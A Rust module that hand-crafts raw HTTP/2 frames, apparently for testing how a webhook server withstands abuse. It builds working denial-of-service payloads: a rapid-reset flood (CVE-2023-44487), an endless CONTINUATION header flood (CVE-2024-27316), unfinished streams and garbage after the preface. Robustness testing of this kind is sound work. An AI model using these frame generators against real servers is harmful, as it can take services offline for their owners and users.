//! HTTP/2 by hand: what a client library would not send.

use super::Target;
use super::connection::random_bytes;
use crate::answer::Heard;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;

const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// `:method: POST` and `:scheme: http` from the static table; `:path`, `:authority` and `content-type` spelled out.
const DELIVERY: &[u8] = b"\x83\x86\x04\x12/webhooks/loyalite\x01\x0cshop.example\x0f\x10\x10application/json";

/// Begins and says no more.
pub async fn silent(to: Target) -> Heard {
    Err(to.said(opening()).await?.ended().await)
}

/// Begins, and then nothing makes sense.
pub async fn garbage(to: Target, number: usize) -> Heard {
    let words = [opening().as_slice(), &random_bytes(number)].concat();
    Err(to.said(words).await?.ended().await)
}

/// A hundred requests, each taken back at once (CVE-2023-44487).
pub async fn rapid_reset(to: Target) -> Heard {
    let mut words = opening();
    for stream in (1..200).step_by(2) {
        words.extend(frame(HEADERS, END_HEADERS, stream, DELIVERY));
        words.extend(frame(RST_STREAM, 0, stream, &CANCEL));
    }
    Err(to.said(words).await?.ended().await)
}

/// As many requests as may be, and none of their bodies ever comes.
pub async fn unfinished(to: Target) -> Heard {
    let mut words = opening();
    for stream in (1..64).step_by(2) {
        words.extend(frame(HEADERS, END_HEADERS, stream, DELIVERY));
    }
    Err(to.said(words).await?.ended().await)
}

/// A head that goes on and on (CVE-2024-27316).
pub async fn endless_head(to: Target) -> Heard {
    let mut wire = to.said([opening(), frame(HEADERS, 0, 1, DELIVERY)].concat()).await?;
    // A header that is not indexed: no name or value longer than a byte can tell.
    let header = [b"\x00\x01x\x7e".as_slice(), &[b'x'; 126]].concat();
    let more = frame(CONTINUATION, 0, 1, &header.repeat(120));
    for _ in 0..64 {
        // It is turned away before it is over.
        if wire.say(&more).await.is_err() {
            break;
        }
    }
    Err(wire.ended().await)
}

fn opening() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
